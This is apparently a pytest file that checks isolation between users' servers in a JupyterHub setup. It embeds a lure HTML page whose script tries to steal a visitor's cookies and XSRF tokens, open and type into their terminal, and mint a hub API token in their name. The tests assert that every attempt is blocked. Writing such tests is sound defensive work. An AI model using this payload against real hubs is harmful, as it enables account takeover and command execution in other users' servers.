"""A page one user's server serves, opened by another user, acts in nothing of theirs.

Dave's server is his: from his kernel he writes a Jupyter configuration into his home that
makes his server serve a page, ``/user/dave/lure``, to whoever opens it, no login needed
(JupyterHub's documentation: a user who controls their server can serve any HTML). Carol,
then the instructor, each logged in to their own JupyterLab with a terminal open, follow a
link to that page in the same browser and click its button. Its script tries, with the
visitor's browser: to read their server's cookies (a window of their server, opened from the
page), list their files, open a terminal in their server and type into it, type into the
terminal they have open, post to their server without reading the answer, read the XSRF
token of their hub page and make a hub API token in their name with it. Each must fail,
seen from the page and checked on the servers: no file written, no terminal opened, no token
made. On one origin for all (``http://hub.localhost:<port>/user/<name>/``, as main's hub
served them) they worked (docs/security.md has what was measured); on a host per user they
fail.

Named to run before ``test_hub_attacks.py``, whose last test keeps the instructor from
logging in for a minute. Runs on the hub of ``hubs.py``.
"""
from __future__ import annotations

import json
import sqlite3
import time
from pathlib import Path
from urllib.parse import urlencode

import pytest
from hubs import HOST, MINUTE, Hub, Visit, login

pytestmark = pytest.mark.pipeline

LURE_MODULE = '''"""A page this server serves to anyone who opens it, no login asked."""
from pathlib import Path
from tornado import web


class Lure(web.RequestHandler):
    def get(self):
        self.set_header("Content-Type", "text/html; charset=utf-8")
        self.finish((Path(__file__).parent / "lure.html").read_text())


default_handlers = [(r"/lure", Lure)]
'''

LURE_CONFIG = '''import sys
sys.path.insert(0, "/home/dave/.jupyter")
c.ServerApp.extra_services = ["lure"]
'''

LURE_PAGE = '''<!doctype html><title>my plot</title>
<button id="show">Show my plot</button><pre id="report"></pre><script>
const ask = new URLSearchParams(location.search);
const server = ask.get("server"), hub = ask.get("hub"), victim = ask.get("victim");
const results = {};
const wait = (ms) => new Promise((_, reject) => setTimeout(() => reject(new Error("no answer")), ms));
async function attempt(name, act) {
  try { results[name] = "ok: " + String(await Promise.race([act(), wait(8000)])).slice(0, 400); }
  catch (error) { results[name] = "blocked: " + error; }
}
async function answered(url, options) {
  const response = await fetch(url, Object.assign({credentials: "include"}, options));
  if (!response.ok) throw new Error("HTTP " + response.status + " (" + response.type + ")");
  return response.text();
}
function cookiesOf(url) {  // what a window of `url`, opened from here, sees in document.cookie
  const other = window.open(url, "_blank", "popup");
  return new Promise((resolve, reject) => {
    const look = () => {
      try {
        if (other.location.href !== "about:blank" && other.document.readyState === "complete") {
          resolve(other.document.cookie);
          other.close();
          return;
        }
      } catch (error) { other.close(); reject(error); return; }
      setTimeout(look, 100);
    };
    look();
  });
}
function typed(url, command) {
  return new Promise((resolve, reject) => {
    const socket = new WebSocket(url.replace(/^http/, "ws"));
    socket.onopen = () => { socket.send(JSON.stringify(["stdin", command + "\\r"]));
                            setTimeout(() => resolve("typed " + command), 1500); };
    socket.onclose = (closed) => reject(new Error("websocket closed, code " + closed.code));
  });
}
document.getElementById("show").onclick = async () => {
  let xsrf = "", hubXsrf = "";
  await attempt("read their server's cookies", async () => {
    const found = await cookiesOf(server + "api/status");
    xsrf = (found.match(/(?:^|; )_xsrf=([^;]*)/) || [])[1] || "";
    if (!xsrf) throw new Error("no _xsrf in " + JSON.stringify(found));
    return found;
  });
  await attempt("list their files", () => answered(server + "api/contents", {mode: "no-cors"}));
  await attempt("open a terminal in their server and type", async () => {
    const opened = JSON.parse(await answered(server + "api/terminals",
                                             {method: "POST", headers: {"X-XSRFToken": xsrf}}));
    return await typed(server + "terminals/websocket/" + opened.name, "echo dave >> pwned-by-dave.txt");
  });
  await attempt("type into the terminal they have open",
                () => typed(server + "terminals/websocket/" + ask.get("terminal"), "echo dave >> pwned-by-dave.txt"));
  // Sent blind (its answer is unreadable whatever happens): the test counts their terminals.
  await fetch(server + "api/terminals", {method: "POST", mode: "no-cors", credentials: "include"}).catch(() => null);
  await attempt("read their hub page's XSRF token", async () => {
    const page = await answered(hub + "hub/home", {mode: "no-cors"});
    hubXsrf = (page.match(/xsrf_token: "([^"]*)"/) || [])[1] || "";
    if (!hubXsrf) throw new Error("no xsrf_token in the page");
    return hubXsrf;
  });
  await attempt("make a hub token in their name", () => answered(hub + "hub/api/users/" + victim + "/tokens", {
    method: "POST", headers: {"X-XSRFToken": hubXsrf, "Content-Type": "application/json"},
    body: JSON.stringify({note: "dave was here", expires_in: 3600})}));
  document.getElementById("report").textContent = JSON.stringify(results);
  window.lureDone = true;
};
</script>
'''

OWN_API = """async ([url, method]) => {
  const xsrf = document.cookie.match(/(?:^|; )_xsrf=([^;]*)/)[1];
  const response = await fetch(url, {method, headers: {"X-XSRFToken": xsrf}});
  return await response.json();
}"""


def _stopped(visit: Visit, timeout: float = 60) -> None:
    """Stop ``visit.user``'s server through the hub, as the Hub Control Panel does."""
    hub, xsrf = visit.hub, visit.http.cookies.get("_xsrf", path="/hub/")
    user_api = f"{hub.url}/hub/api/users/{visit.user}"
    visit.http.delete(f"{user_api}/server", headers={"X-XSRFToken": xsrf})
    deadline = time.monotonic() + timeout
    while visit.http.get(user_api, headers={"X-XSRFToken": xsrf}).json().get("servers"):
        assert time.monotonic() < deadline, f"{visit.user}'s server did not stop"
        time.sleep(0.5)


@pytest.fixture(scope="module")
def lure(hub) -> str:
    """The address of the page Dave's server serves to anyone, after he restarted it."""
    dave = Visit(hub, "dave")
    dave.run("from pathlib import Path\nfolder = Path.home() / '.jupyter'\nfolder.mkdir(exist_ok=True)\n"
             f"(folder / 'lure.py').write_text({LURE_MODULE!r})\n"
             f"(folder / 'lure.html').write_text({LURE_PAGE!r})\n"
             f"(folder / 'jupyter_server_config.py').write_text({LURE_CONFIG!r})\n")
    _stopped(dave)
    Visit(hub, "dave")
    return f"{hub.server('dave')}/lure"


def _tokens(hub: Hub, user: str) -> int:
    """How many API tokens the hub's database holds for ``user``."""
    database = hub.state / "hub" / "jupyterhub.sqlite"
    with sqlite3.connect(f"file:{database}?mode=ro", uri=True) as db:
        return db.execute("SELECT count(*) FROM api_tokens JOIN users ON users.id = "
                          "api_tokens.user_id WHERE users.name = ?", (user,)).fetchone()[0]


def _folder(hub: Hub, user: str) -> Path:
    """Where ``user``'s terminals start: their home, outside their sandbox."""
    return hub.state / "homes" / user


@pytest.mark.parametrize("victim", ["carol", "instructor"])
def test_a_page_of_daves_server_acts_in_nothing_of_its_visitor(hub, chromium, lure, victim):
    own = login(chromium, hub, victim)
    server = hub.server(victim)
    terminal = own.evaluate(OWN_API, [f"{server}/api/terminals", "POST"])["name"]
    tokens = _tokens(hub, victim)
    page = own.context.new_page()
    page.set_default_timeout(MINUTE)
    page.goto(f"{lure}?" + urlencode({"server": f"{server}/", "hub": f"{hub.url}/",
                                       "victim": victim, "terminal": terminal}))
    page.click("#show")                  # as a visitor clicks a button on a page
    page.wait_for_function("window.lureDone === true")
    report = json.loads(page.inner_text("#report"))
    print(f"\n{victim} opened {lure}: " + json.dumps(report, indent=1))
    time.sleep(2)       # what the page typed into a terminal has run by now
    terminals = [t["name"] for t in own.evaluate(OWN_API, [f"{server}/api/terminals", "GET"])]
    written = _folder(hub, victim) / "pwned-by-dave.txt"
    seen = {"the page did": [name for name, said in report.items() if not said.startswith("blocked")],
            "their terminals": terminals, "written": written.exists() and written.read_text(),
            "new tokens": _tokens(hub, victim) - tokens}
    assert seen == {"the page did": [], "their terminals": [terminal], "written": False,
                    "new tokens": 0}, report


def test_each_login_cookie_stays_on_its_own_host(hub):
    """The hub's login cookie is the hub's host's alone, Carol's server's hers alone; the one
    cookie her server's host is sent besides, ``jupyterhub-session-id``, is no credential
    (the hub ends the session's tokens with it at logout)."""
    carol = Visit(hub, "carol")
    cookies = {c.name: (c.domain.lstrip("."), c.domain_specified) for c in carol.http.cookies
               if c.name.startswith("jupyterhub-")}
    assert cookies == {"jupyterhub-hub-login": (HOST, False),
                       "jupyterhub-user-carol": (f"carol.{HOST}", False),
                       "jupyterhub-session-id": (HOST, True)}, cookies
